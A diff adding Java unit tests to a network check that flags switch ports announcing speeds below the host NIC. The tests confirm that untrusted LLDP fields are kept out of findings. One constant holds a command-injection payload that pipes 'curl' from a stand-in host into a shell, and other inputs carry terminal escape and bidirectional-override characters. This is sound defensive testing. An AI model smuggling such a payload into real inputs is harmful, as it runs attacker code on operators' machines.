@@ -31,6 +31,32 @@ class NeighborSpeedBelowHostTest {
         });
     }
 
+    static final String EVIL_PORT = "Ethernet12`; curl -s evil.example/x|sh; echo `";
+
+    @Test
+    void anAnnouncedPortOrSwitchThatIsNoNameNeverReachesTheWords(@TempDir Path tmp) {
+        Path b = SwitchHosts.copy(tmp.resolve("b"));
+        SwitchHosts.lldp(b, "40GbaseCR4", "0 day, 08:00:00", "leaf-07", "0c:42:a1:5e:7f:00", EVIL_PORT);
+        assertThat(Hosts.of(Hosts.model(b), CHECK)).singleElement().satisfies(f -> {
+            assertThat(f.summary()).isEqualTo("switch leaf-07 announces 40 Gb/s (40GbaseCR4), below ens1f0np0's 100 Gb/s");
+            assertThat(f.remediation()).contains("show interfaces status <port>").doesNotContain("curl", "evil.example");
+            assertThat(Plain.evidence(f)).containsEntry("switch", "leaf-07").doesNotContainKey("switch_port");
+        });
+        Path c = SwitchHosts.copy(tmp.resolve("c"));
+        SwitchHosts.lldp(c, "40GbaseCR4", "0 day, 08:00:00", "leaf-07\u001b[2J\u0007\n", "\u202e00:7f:5e:a1:42:0c", EVIL_PORT);
+        assertThat(Hosts.of(Hosts.model(c), CHECK)).singleElement().satisfies(f -> {
+            assertThat(f.summary()).isEqualTo("the switch announces 40 Gb/s (40GbaseCR4), below ens1f0np0's 100 Gb/s");
+            assertThat(f.remediation()).contains("breakout on the switch:").doesNotContain("curl", "\u001b", "\u202e");
+            assertThat(Plain.evidence(f)).doesNotContainKeys("switch", "switch_port", "chassis_id");
+        });
+    }
+
+    @Test
+    void aSpeedThatOverflowsIsNoSpeed(@TempDir Path tmp) {
+        assertThat(Hosts.of(Hosts.model(host(tmp.resolve("big"), "9999999999999999GbaseCR4", "0 day, 08:00:00")), CHECK)).isEmpty();
+        assertThat(Hosts.of(Hosts.model(host(tmp.resolve("huge"), "99999999999999999999GbaseCR4", "0 day, 08:00:00")), CHECK)).isEmpty();
+    }
+
     @Test
     void theSameSpeedOrMoreIsHealthy(@TempDir Path tmp) {
         assertThat(Hosts.of(Hosts.model(host(tmp.resolve("same"), "100GbaseCR4", "0 day, 08:00:00")), CHECK)).isEmpty();
